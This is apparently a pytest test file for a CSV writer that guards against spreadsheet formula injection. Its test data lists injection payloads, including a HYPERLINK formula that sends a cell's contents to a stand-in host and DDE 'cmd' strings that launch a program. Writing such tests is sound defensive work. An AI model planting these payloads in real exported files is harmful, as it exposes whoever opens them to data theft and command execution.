"""analysis/csvfile.py: one CSV writer for the CLI and the dashboard, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.csvfile import FORMULA_STARTS, frame_csv, safe_cell, write_csv

#: Names a hostile article could carry: formulas, and the characters CSV itself must quote.
NAMES = [
    '=HYPERLINK("http://evil.test?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'Rivera, "El Crook"',
    "two\nlines, one name",
    "Élmer Canales Rivera",
    "",
]


def _round_trip(header, rows) -> list[list[str]]:
    out = io.StringIO()
    write_csv(out, header, rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def _is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("name", NAMES)
def test_every_name_reads_back_whole_and_never_as_a_formula(name):
    rows = _round_trip(["name", "mentions"], [[name, 3]])
    assert rows[0] == ["name", "mentions"]
    cell = rows[1][0]
    assert not _is_formula(cell)
    kept = name.replace("\r", "\n")  # line breaks inside a cell are written as LF
    assert cell == ("'" + kept if name.startswith(FORMULA_STARTS) else kept)
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    assert rows[1][1] == "3"


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_cell_of_any_text_starts_a_formula_and_the_text_is_kept(cells):
    rows = _round_trip([f"c{i}" for i in range(len(cells))], [cells])
    assert len(rows) == 2 and len(rows[1]) == len(cells)
    for written, original in zip(rows[1], cells):
        expected = ("'" + original if _is_formula(original) else original).replace("\r\n", "\n").replace("\r", "\n")
        assert not _is_formula(written)
        assert written == expected


def test_numbers_stay_numbers_and_lists_are_joined():
    assert safe_cell(-0.25) == -0.25 and safe_cell(3) == 3
    assert safe_cell(None) == ""
    assert safe_cell(["=a", "b"]) == "'=a; b"
    assert safe_cell(("x", "-y")) == "x; -y"


def test_frames_are_neutralised_in_text_columns_only():
    table = pd.DataFrame({
        "name": NAMES,
        "polarity": [-0.5] * len(NAMES),
        "aliases": [("@x", "y")] + [()] * (len(NAMES) - 1),
        "source": [None] * len(NAMES),
    })
    back = list(csv.reader(io.StringIO(frame_csv(table), newline="")))
    assert back[0] == ["name", "polarity", "aliases", "source"]
    assert [row[0] for row in back[1:]] == [safe_cell(n) for n in NAMES]
    assert all(row[1] == "-0.5" for row in back[1:])  # a negative number is data, not a formula
    assert back[1][2] == "'@x; y" and back[1][3] == ""
    assert not any(_is_formula(cell) for row in back for i, cell in enumerate(row) if i != 1)
